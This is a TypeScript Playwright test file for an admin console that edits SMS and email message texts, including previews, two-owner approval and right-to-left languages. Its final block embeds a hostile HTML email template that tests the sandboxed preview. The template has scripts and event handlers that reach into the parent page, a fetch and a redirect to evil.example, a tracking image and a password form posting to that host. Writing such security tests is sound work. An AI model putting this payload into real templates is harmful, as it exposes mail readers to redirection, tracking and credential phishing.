import assert from 'node:assert/strict';
import { it } from 'node:test';
import type { Page } from 'playwright-core';
import { inChromium, PHONE } from '../support/chromium.ts';
import { assertAccessible, assertReadable, openConsole } from '../support/console.ts';
import { photograph } from '../support/screenshots.ts';
import { OPERATOR } from '../support/settings.ts';

const CODE = 'wording?kind=otp&language=en';
const SAID = 'Only for you: {code}. {site} never asks you for it.';

const preview = (page: Page) => page.getByRole('region', { name: 'Preview' });

inChromium('the editor of message texts', (getVisit) => {
  it('shows an SMS, its parts and what is wrong with it while it is typed, and changes it with two owners', async () => {
    const { app, visit } = getVisit();
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'owner', CODE);
      const text = page.getByRole('textbox', { name: 'Text' });
      await preview(page).getByText('1 SMS', { exact: true }).waitFor();
      await text.fill('No code in here');
      await preview(page).getByText('There is no preview until the faults are corrected.').waitFor();
      await page.getByText('expected {code} in it').first().waitFor();
      await text.fill('');
      await page.getByRole('button', { name: 'Insert {code}' }).click();
      assert.equal(await text.inputValue(), '{code}');
      await text.fill(SAID);
      await preview(page)
        .getByText(/^Only for you: \d+\./)
        .waitFor();
      await text.fill(`${SAID} ${'ş'.repeat(60)}`);
      await preview(page).getByText('2 SMS', { exact: true }).waitFor();
      await preview(page).getByText('UCS-2').waitFor();
      await text.fill(SAID);
      await preview(page).getByText('1 SMS', { exact: true }).waitFor();
      await page.locator('ins', { hasText: 'Only for you' }).first().waitFor();
      await assertReadable(page, 'wording-sms');
      await page.getByRole('button', { name: 'Propose' }).click();
      await page.getByText('Proposed. Another owner has to confirm it.').waitFor();
      assert.deepEqual(app.core.settings.get('MESSAGE_TEXTS'), {});
    });
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'owner', 'settings');
      await page.getByRole('cell', { name: SAID }).waitFor();
      await page.getByRole('button', { name: 'Confirm' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'Confirm' }).click();
      await page.getByText('Saved.').waitFor();
      assert.deepEqual(app.core.settings.get('MESSAGE_TEXTS'), { otp: { en: { text: SAID } } });
    });
    await app.core.settingsAdmin.unset('MESSAGE_TEXTS', OPERATOR);
  });

  it('keeps what was typed when another owner changed the texts meanwhile, and shows theirs', async () => {
    const { app, visit } = getVisit();
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'owner', CODE);
      await page.getByRole('textbox', { name: 'Text' }).fill(SAID);
      const theirs = { otp: { en: { text: '{code} is your code.' } } };
      assert.ok((await app.core.settingsAdmin.set('MESSAGE_TEXTS', theirs, OPERATOR)).ok);
      await page.getByRole('button', { name: 'Propose' }).click();
      await page.getByText('Somebody changed this meanwhile').waitFor();
      await page.getByRole('cell', { name: '{code} is your code.' }).waitFor();
      assert.equal(await page.getByRole('textbox', { name: 'Text' }).inputValue(), SAID);
      await page.getByRole('button', { name: 'Propose' }).click();
      await page.getByText('Proposed. Another owner has to confirm it.').waitFor();
    });
    await app.core.settingsAdmin.unset('MESSAGE_TEXTS', OPERATOR);
  });

  it('asks before what was typed is lost', async () => {
    const { visit } = getVisit();
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'owner', CODE);
      await page.getByRole('textbox', { name: 'Text' }).fill(SAID);
      await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'People' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByText('Leave without saving?').waitFor();
      await assertAccessible(page);
      await dialog.getByRole('button', { name: 'Stay' }).click();
      await dialog.waitFor({ state: 'detached' });
      assert.equal(await page.getByRole('textbox', { name: 'Text' }).inputValue(), SAID);
      await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'People' }).click();
      await dialog.getByRole('button', { name: 'Leave' }).click();
      await page.getByRole('heading', { level: 1, name: 'People' }).waitFor();
      await page.goBack();
      await preview(page).getByText('1 SMS', { exact: true }).waitFor();
      await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Staff' }).click();
      await page.getByRole('heading', { level: 1, name: 'Staff' }).waitFor();
    });
  });

  it('sends a test to whoever asks and to nobody else, also to a manager, who changes nothing', async () => {
    const { app, visit } = getVisit();
    await visit(async (page) => {
      const manager = await openConsole(
        getVisit(),
        page,
        'manager',
        'wording?kind=password-changed&language=de',
      );
      await page.getByText('Only owners propose a change of this setting.').waitFor();
      await page.getByRole('textbox', { name: 'Subject' }).fill('Ihr neues Passwort gilt');
      const frame = preview(page).frameLocator('iframe');
      await frame.getByRole('heading').or(frame.getByText('Firefox')).first().waitFor();
      await preview(page).getByText('Ihr neues Passwort gilt').waitFor();
      const before = (await app.inbox()).length;
      await page.getByRole('button', { name: 'Send me a test' }).click();
      await page.getByText('It is on its way to you.').waitFor();
      await app.deliver();
      const arrived = (await app.inbox()).slice(before);
      assert.deepEqual(
        arrived.map(({ recipient }) => recipient),
        [manager.email],
      );
      assert.ok(
        arrived[0]?.subject?.includes('Ihr neues Passwort gilt'),
        arrived[0]?.subject ?? 'no subject',
      );
      await preview(page).getByRole('tab', { name: 'Plain text' }).click();
      await preview(page).getByText('Firefox').waitFor();
      await preview(page).getByRole('tab', { name: 'HTML' }).click();
      await assertReadable(page, 'wording-mail');
      const backgroundOfCard = () =>
        frame.locator('.card').evaluate((shown) => {
          const { getComputedStyle } = globalThis as unknown as {
            getComputedStyle: (of: unknown) => { backgroundColor: string };
          };
          return getComputedStyle(shown).backgroundColor;
        });
      assert.equal(await backgroundOfCard(), 'rgb(255, 255, 255)');
      await page.setViewportSize(PHONE);
      await preview(page).getByText('Dark').click();
      await frame.locator('.card').waitFor();
      assert.notEqual(await backgroundOfCard(), 'rgb(255, 255, 255)');
      await preview(page).locator('iframe').scrollIntoViewIfNeeded();
      await photograph(page, 'console-wording-mail-frame-dark', 'screen');
      await page.goto('/console/wording?kind=otp&language=en');
      await page.getByRole('button', { name: 'Send me a test' }).click();
      await preview(page).getByRole('alert').waitFor();
    });
  });

  it('speaks Arabic, from right to left, and shows texts of each language in their own direction', async () => {
    const { visit } = getVisit();
    await visit(
      async (page) => {
        await openConsole(getVisit(), page, 'owner', 'wording?kind=otp&language=ar');
        await page.getByRole('button', { name: 'Menu' }).click();
        await page.getByRole('navigation', { name: 'Menu' }).getByRole('combobox').click();
        await page.getByRole('option', { name: 'العربية' }).click();
        await page.getByRole('heading', { level: 1, name: 'نصوص الرسائل' }).waitFor();
        await page.getByRole('region', { name: 'معاينة' }).getByText('UCS-2').waitFor();
        await page.getByText('رمز لمرة واحدة، يليه سطر يربط الرمز بالموقع.').waitFor();
        await assertAccessible(page);
        await photograph(page, 'console-wording-phone-arabic');
      },
      { viewport: PHONE },
    );
  });
});

const HOSTILE = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>.card { background-color: rgb(1, 2, 3) } .strong { color: rgb(9, 9, 9) }</style>
</head><body onload="parent.document.title='x'">
<script>parent.document.title = 'x'; fetch('https://evil.example/')</script>
<img src="https://evil.example/open.gif" alt="tracker" onerror="parent.document.title='x'">
<form action="https://evil.example/"><input name="password"></form>
<p class="card strong" style="color: rgb(4, 5, 6)">Hello {{ user.first_name }} &gt; <a href="{{ reset_url }}" style="font-weight: 700">new password</a></p>
</body></html>`;

inChromium('the preview of the reset mail', (getVisit) => {
  it('looks as the mail does, and neither runs nor loads anything of it', async () => {
    const { app, origin, visit } = getVisit();
    assert.ok((await app.core.settingsAdmin.set('RESET_EMAIL_HTML_TEMPLATE', HOSTILE, OPERATOR)).ok);
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'manager', 'wording/reset-mail');
      const title = await page.title();
      const element = preview(page).locator('iframe');
      const frame = element.contentFrame();
      const paragraph = frame.getByText('Hello Ada');
      await paragraph.waitFor();
      assert.equal(await element.getAttribute('sandbox'), '');
      const shot = await paragraph.evaluate((shown) => {
        const { getComputedStyle } = globalThis as unknown as {
          getComputedStyle: (of: unknown) => { color: string; backgroundColor: string };
        };
        const { color, backgroundColor } = getComputedStyle(shown);
        return [color, backgroundColor];
      });
      assert.deepEqual(shot, ['rgb(4, 5, 6)', 'rgb(1, 2, 3)']);
      assert.equal(await frame.locator('script, base[href], link, meta[http-equiv]').count(), 0);
      assert.equal(await frame.getByAltText('tracker').getAttribute('src'), null);
      await frame.getByRole('link', { name: 'new password' }).click();
      await paragraph.waitFor();
      assert.equal(await page.title(), title);
      assert.ok(page.url().startsWith(`${origin}/console/wording/reset-mail`));
      await photograph(page, 'console-reset-mail-hostile');
    });
    await app.core.settingsAdmin.unset('RESET_EMAIL_HTML_TEMPLATE', OPERATOR);
  });

  it('shows faults of a template where it is typed, and is proposed once it has none', async () => {
    const { app, visit } = getVisit();
    await visit(async (page) => {
      await openConsole(getVisit(), page, 'owner', 'wording/reset-mail');
      const template = page.getByRole('textbox', { name: 'Template' });
      await template.fill('<p>{{ user.first_name }</p>');
      await preview(page).getByText('There is no preview until the faults are corrected.').waitFor();
      await page.locator('textarea[aria-invalid=true]').waitFor();
      await template.fill('<p>Hello {{ user.first_name }}, <a href="{{ reset_url }}">go on</a></p>');
      await preview(page).frameLocator('iframe').getByText('Hello Ada').waitFor();
      await page.getByText('One for each language').click();
      await assertReadable(page, 'reset-mail');
      const before = (await app.inbox()).length;
      await page.getByRole('button', { name: 'Send me a test' }).click();
      await page.getByText('It is on its way to you.').waitFor();
      await app.deliver();
      const [mail] = (await app.inbox()).slice(before);
      assert.ok(mail?.html?.includes('<p>Hello '), mail?.html ?? 'no HTML');
      await page.getByRole('button', { name: 'Propose' }).click();
      await page.getByText('Proposed. Another owner has to confirm it.').waitFor();
    });
  });
});
